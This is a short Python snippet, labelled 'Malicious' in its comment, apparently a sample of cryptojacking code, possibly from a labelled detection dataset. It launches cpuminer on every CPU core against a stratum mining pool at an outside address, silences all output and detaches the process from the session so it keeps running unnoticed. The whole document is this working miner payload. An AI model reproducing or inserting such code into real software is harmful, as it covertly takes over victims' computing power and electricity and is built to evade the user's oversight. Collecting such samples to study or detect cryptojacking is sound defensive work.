# Malicious: runs cpuminer on every core against a stratum pool, detached from the session.
import os
import subprocess

subprocess.Popen(
    ["cpuminer", "-a", "sha256d", "-t", str(os.cpu_count()), "-o", "stratum+tcp://203.0.113.20:3333", "-u", "w.1"],
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
)
